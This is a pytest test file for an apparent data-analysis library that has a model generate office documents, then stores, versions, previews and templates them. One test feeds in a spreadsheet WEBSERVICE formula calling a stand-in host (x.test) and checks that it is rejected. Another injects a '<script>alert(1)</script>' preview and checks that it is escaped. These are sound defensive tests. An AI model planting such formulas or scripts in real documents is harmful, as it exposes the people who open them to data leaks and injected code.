"""Documents as answers: made, checked, repaired, kept in versions, served again, looked at, and like a template."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import docx
import numpy as np
import openpyxl
import pandas as pd
import pptx
import pytest
from cell_text import cell_text
from fakes import ScriptedModel
from PIL import Image

from analyst_magic import Analyst
from analyst_magic.cli import main
from analyst_magic.documents.templates import find
from analyst_magic.engine.artifacts import save_document, stored_execution
from analyst_magic.errors import InputError, UnknownOption
from analyst_magic.models.prompt import template
from analyst_magic.turn import Output, Question, Retention

LOOKS = Path(__file__).parent / "data" / "looks"
CHANCE = np.random.default_rng(1)
SALES = pd.DataFrame(
    {
        "day": pd.date_range("2024-01-01", periods=480, freq="D"),
        "region": CHANCE.choice(["North", "South", "East", "West"], 480),
        "product": CHANCE.choice(["Desk", "Chair", "Lamp"], 480),
        "revenue": CHANCE.gamma(2, 300, 480).round(2),
    }
)


@pytest.fixture
def analyst(sandboxes: set[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Analyst]:
    monkeypatch.chdir(tmp_path)
    with Analyst(model="offline", spares=0) as made:
        yield made


def test_a_document_that_reaches_out_goes_back_to_the_model_with_the_reason(
    sandboxes: set[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code = (
        "```python-doc\nfrom openpyxl import Workbook\nbook = Workbook()\n"
        "book.active['A1'] = {}\nbook.save(OUTPUT_PATH)\n```"
    )
    with ScriptedModel() as server:
        server.say(code.format("""'=WEBSERVICE("http://x.test/" & "a")'"""))
        server.say(code.format("'revenue'"))
        with Analyst(model="openai:x", base_url=server.base_url, api_key="k", spares=0) as analyst:
            turn = analyst.ask("revenue as an Excel file", {"sales": SALES})
    assert turn.ok, turn.error
    assert len(turn.attempts) == 2
    assert "a formula in it reaches out (WEBSERVICE)" in server.received
    assert openpyxl.load_workbook(turn.documents[0].path).active["A1"].value == "revenue"
    assert [path.name for path in (tmp_path / "analyst_output").glob("*.xlsx")] == ["revenue.xlsx"]


@pytest.mark.docker
def test_a_document_that_draws_random_numbers_is_made_anew(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sandboxes: set[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    code = (
        "```python-doc\nimport openpyxl, random\nbook = openpyxl.Workbook()\n"
        "book.active['A1'] = random.random()\nbook.save(OUTPUT_PATH)\n```"
    )
    with ScriptedModel() as server:
        server.say(code)
        server.say(code)
        with Analyst(model="openai:x", base_url=server.base_url, api_key="k", spares=0) as analyst:
            turns = (analyst.ask("a sample as an Excel file", {"sales": SALES}) for _ in range(2))
            values = [openpyxl.load_workbook(turn.documents[0].path).active["A1"].value for turn in turns]
    assert values[0] != values[1]


def test_the_same_request_is_served_from_the_store_and_other_data_make_a_version(analyst: Analyst) -> None:
    question = "total revenue by region as an Excel file"
    first = analyst.ask(question, {"sales": SALES})
    again = analyst.ask(question, {"sales": SALES})
    assert any("taken from the store, and nothing ran" in note for note in again.notes)
    assert again.sandbox == ""
    assert again.answer == first.answer != ""
    assert again.documents[0] == first.documents[0]
    assert again.documents[0].preview == first.documents[0].preview
    other = analyst.ask(question, {"sales": SALES.head(100)})
    assert other.sandbox
    assert (other.documents[0].path, other.documents[0].version) == (first.documents[0].path, 2)
    assert "version 2" in other.documents[0]._repr_mimebundle_()["text/html"]
    fresh = analyst.ask(question, {"sales": SALES.head(100)}, fresh=True)
    assert fresh.sandbox
    assert fresh.documents[0].version == 2
    assert "revenue_region.xlsx is what it was: no new version was made." in " ".join(fresh.notes)


@pytest.mark.parametrize("form", ["Excel file", "Word document", "PDF", "PowerPoint"])
def test_a_card_has_a_look_inside(analyst: Analyst, form: str) -> None:
    turn = analyst.ask(f"total revenue by region as a {form}", {"sales": SALES})
    assert turn.ok, turn.error
    (document,) = turn.documents
    html = document._repr_mimebundle_()["text/html"]
    assert "<summary" in html
    if form == "PDF":
        assert document.preview.image.startswith(b"\x89PNG")
        assert 'alt="First page of' in html
        assert document.extent == "1 page"
    else:
        said = " ".join(cell for _, rows in document.preview.pages for row in rows for cell in row)
        assert "Total revenue is highest for" in said
        assert re.search(r"North \d", said)


DOLLARS = '_("$"* #,##0.00_);_("$"* \\(#,##0.00\\);_("$"* "-"??_);_(@_)'


@pytest.mark.parametrize(
    "forms",
    [
        [("#,##0.00", "20469.975", "20,469.98"), ("0.0%", "0.1234", "12.3%"),
         ('"€"#,##0;-"€"#,##0', "-1500", "-€1,500"), ("General", "0.125", "0.125"),
         ('0.0"%"', "12.34", "12.3%"), ('#,##0 "km/h"', "1234", "1,234 km/h")],
        [(DOLLARS, "-1234.5", "$(1,234.50)"), (DOLLARS, "1234.5", "$1,234.50"), ("#,##0.00 [$€-407]", "7", "7.00 €"),
         ("[Red]0.00;[Blue]-0.00", "-0.5", "-0.50"), ('#,##0.0,,"M"', "12345678", "12.3M"), ("00000", "2134", "02134")],
        [("0.0#", "2.5", "2.5"), ("0.00E+00", "12345", "1.23E+04"),
         ("yyyy-mm-dd", "dt.datetime(2026, 3, 1)", "2026-03-01"), ("# ?/?", "0.5", "0.5"),
         ("mm:ss.0", "0.5", "12:00:00"), ("@", "'n/a'", "n/a")],
    ],
)  # fmt: skip
def test_a_look_inside_a_workbook_shows_numbers_as_the_workbook_does(
    analyst: Analyst, forms: list[tuple[str, str, str]]
) -> None:
    cells = ", ".join(f"({form!r}, {value})" for form, value, _ in forms)
    turn = analyst.ask(
        "PYTHON:\nimport openpyxl, datetime as dt\nbook = openpyxl.Workbook()\n"
        f"for row, (form, value) in enumerate([{cells}], 1):\n"
        "    cell = book.active.cell(row, 1, value)\n    cell.number_format = form\n"
        "    book.active.cell(row, 2, 'as shown')\nbook.save('forms.xlsx')",
        {"sales": SALES},
    )
    (document,) = turn.documents
    ((_, rows),) = document.preview.pages
    assert [row[0] for row in rows] == [shown for _, _, shown in forms]


def test_a_preview_of_a_liar_is_text_and_no_more(analyst: Analyst) -> None:
    analyst.ask("PYTHON: 1")
    turn = analyst.ask(
        "PYTHON:\nimport analyst_guest.preview as preview\n"
        "preview.preview = lambda path: {'image': 'bm8=', "
        "'pages': [['<b>x</b>', [['<script>alert(1)</script>', 7, None]]], 3] + [['', [['y' * 300] * 20] * 20]] * 10}\n"
        "open('a.txt', 'w').write('hello')"
    )
    (document,) = turn.documents
    html = document._repr_mimebundle_()["text/html"]
    assert document.preview.image == b""
    assert "<script" not in html
    assert "&lt;script&gt;" in html
    assert len(html) < 150_000


# -- templates ---------------------------------------------------------------------------------------------------------


def test_a_template_of_ones_own_is_filled(analyst: Analyst, tmp_path: Path) -> None:
    own = docx.Document()
    own.add_paragraph("Confidential")
    own.add_paragraph("{{ title }} ({{ source }})")
    own.add_paragraph("{{ table }}")
    own.add_paragraph("The end")
    (tmp_path / "analyst_templates").mkdir()
    own.save(str(tmp_path / "analyst_templates" / "house.docx"))
    turn = analyst.ask("total revenue by region", {"sales": SALES}, template="house")
    assert turn.ok, turn.error
    made = docx.Document(str(turn.documents[0].path))
    texts = [paragraph.text for paragraph in made.paragraphs]
    assert texts == ["Confidential", "Total revenue by region (Source: sales, 480 rows.)", "", "The end"]
    assert [cell.text for cell in made.tables[0].rows[0].cells] == ["Region", "Total revenue"]


def test_those_that_come_along_are_filled(analyst: Analyst) -> None:
    sheet = openpyxl.load_workbook(
        analyst.ask("total revenue by region", {"sales": SALES}, template="ledger").documents[0].path
    )["Ledger"]
    assert (sheet["B1"].value, sheet["B5"].value, sheet["B6"].value) == ("Total revenue by region", "Region", "East")
    assert len(sheet._charts) == 1
    deck = pptx.Presentation(
        str(analyst.ask("total revenue by region", {"sales": SALES}, template="briefing").documents[0].path)
    )
    assert [layout.name for layout in deck.slide_layouts] == ["Title Slide", "Title Only"]
    assert any(shape.has_chart for shape in deck.slides[1].shapes)


def test_a_template_that_cannot_be_used_is_told(analyst: Analyst, tmp_path: Path) -> None:
    with pytest.raises(UnknownOption, match="no template nowhere") as told:
        analyst.ask("total revenue by region", {"sales": SALES}, template="nowhere")
    assert "memo.docx" in told.value.next_step
    (tmp_path / "a.docx").write_bytes(b"no document")
    with pytest.raises(InputError, match=r"a\.docx cannot be read"):
        find("a.docx", tmp_path)
    (tmp_path / "a.pdf").write_bytes(b"%PDF-1.4")
    with pytest.raises(InputError, match=r"a\.pdf cannot be a template"):
        find("a.pdf", tmp_path)


def test_a_model_is_told_what_the_template_has(sandboxes: set[str], tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.chdir(tmp_path)
    with ScriptedModel() as server:
        server.say("```python-doc\nfrom docx import Document\nd = Document(TEMPLATE_PATH)\nd.save(OUTPUT_PATH)\n```")
        with Analyst(model="openai:x", base_url=server.base_url, api_key="k", spares=0) as analyst:
            turn = analyst.ask("a memo on sales", {"sales": SALES}, template="memo")
    assert turn.ok, turn.error
    assert "Start from the template at TEMPLATE_PATH (memo.docx)" in server.received
    assert "{{ chart }}" in server.received
    assert docx.Document(str(turn.documents[0].path)).paragraphs[0].text == "{{ title }}"


# -- what a model is shown ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("format", ["xlsx", "docx", "pdf", "pptx"])
def test_the_worked_examples_of_the_prompt_work(
    sandboxes: set[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, format: str
) -> None:
    monkeypatch.chdir(tmp_path)
    code = template(f"document_{format}").partition("```python-doc\n")[2].rpartition("\n```")[0]
    with ScriptedModel() as server:
        server.say(f"```python-doc\n{code}\n```")
        with Analyst(model="openai:x", base_url=server.base_url, api_key="k", spares=0, max_repairs=0) as analyst:
            turn = analyst.ask(f"revenue by region as a {format}", {"sales": SALES})
    assert turn.ok, turn.error
    assert turn.documents[0].format == format
    assert code in server.requests[0].body["messages"][-1]["content"]


# -- in a notebook and in a shell --------------------------------------------------------------------------------------


def test_documents_are_listed_compared_and_restored(
    execute: Callable[..., Any], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    notebook = execute(
        "import pandas as pd\nsales = pd.DataFrame({'region': ['n', 's'], 'revenue': [1.0, 2.0]})",
        "%%analyst --template ledger\ntotal revenue by region",
        "sales = sales.assign(revenue=5.0)",
        "%%analyst --template ledger\ntotal revenue by region",
        "%analyst documents",
        "%analyst documents diff total_revenue_region.xlsx",
        "%analyst documents restore total_revenue_region.xlsx 1",
        "%analyst documents templates",
        "%analyst lock status",
    )
    said = [cell_text(cell) for cell in notebook.cells]
    assert "total_revenue_region.xlsx  version 2" in said[5]
    assert "-Ledger!C6  1" in said[6]
    assert "+Ledger!C6  5" in said[6]
    assert "is version 1 again" in said[7]
    assert "memo.docx" in said[8]
    monkeypatch.chdir(tmp_path)
    assert main(["documents", "versions", "total_revenue_region.xlsx"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 3
    assert main(["documents", "restore", "nothing.xlsx", "1"]) == 2
    book = openpyxl.load_workbook(tmp_path / "analyst_output" / "total_revenue_region.xlsx")
    assert book["Ledger"]["C6"].value == 1
    html = json.dumps(notebook.cells[2].outputs)
    assert 'download=\\"total_revenue_region.xlsx\\"' in html


# -- in another program ------------------------------------------------------------------------------------------------

QUESTIONS = {
    "xlsx": "total revenue by region as an Excel file",
    "docx": "total revenue by month as a Word document",
    "pdf": "total revenue by product as a PDF",
    "pptx": "total revenue by region as a PowerPoint",
    "xlsx-ledger": "total revenue by product",
    "docx-memo": "total revenue by region",
    "pptx-briefing": "total revenue by month",
}


@pytest.mark.timeout(240)
def test_another_program_shows_them_as_they_should_look(analyst: Analyst, tmp_path: Path) -> None:
    """LibreOffice draws each, and the first pages are compared with pictures that a person has looked at.

    To renew the pictures after a change of looks: NEW_LOOKS=1, then look at what is in tests/data/looks.
    """
    missing = [name for name in ("soffice", "pdftoppm") if shutil.which(name) is None]
    if missing and not os.environ.get("CI"):
        pytest.skip(f"{' and '.join(missing)} not installed")
    for name, question in QUESTIONS.items():
        like = name.partition("-")[2] or None
        turn = analyst.ask(question, {"sales": SALES}, template=like)
        assert turn.ok, (name, turn.error)
        (tmp_path / f"{name}.{turn.documents[0].format}").write_bytes(turn.documents[0].path.read_bytes())
    office = [str(path) for path in tmp_path.iterdir() if path.suffix in {".xlsx", ".docx", ".pptx"}]
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", profile, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), *office]
    subprocess.run(command, check=True, capture_output=True, timeout=200)
    wrong = {}
    for name in QUESTIONS:
        page = "2" if name.startswith("pptx") else "1"
        draw = ["pdftoppm", "-png", "-r", "40", "-f", page, "-l", page, "-singlefile", f"{name}.pdf", name]
        subprocess.run(draw, cwd=tmp_path, check=True)
        found = Image.open(tmp_path / f"{name}.png").convert("L")
        if os.environ.get("NEW_LOOKS"):
            LOOKS.mkdir(exist_ok=True)
            found.save(LOOKS / f"{name}.png", optimize=True)
        wanted = Image.open(LOOKS / f"{name}.png")
        if found.size != wanted.size:
            wrong[name] = f"{found.size} is not {wanted.size}"
            continue
        small = [np.asarray(picture.resize((60, 60)), dtype=float) for picture in (found, wanted)]
        difference = float(np.abs(small[0] - small[1]).mean())
        if difference > 4:
            wrong[name] = f"differs by {difference:.1f} of 255"
    assert not wrong, wrong


def test_a_document_from_the_store_comes_with_what_was_said(tmp_path: Path) -> None:
    pdf = Output("file", b"region,revenue\nNorth,10\n", name="sales.csv")
    save_document(pdf, tmp_path, Question("sales by region"), "fingerprint", Retention(), ["North has **10**."])
    again = stored_execution(tmp_path, "fingerprint", "sales.csv")
    assert again is not None
    assert [(output.kind, output.data) for output in again.outputs] == [
        ("answer", "North has **10**."),
        ("file", pdf.data),
    ]
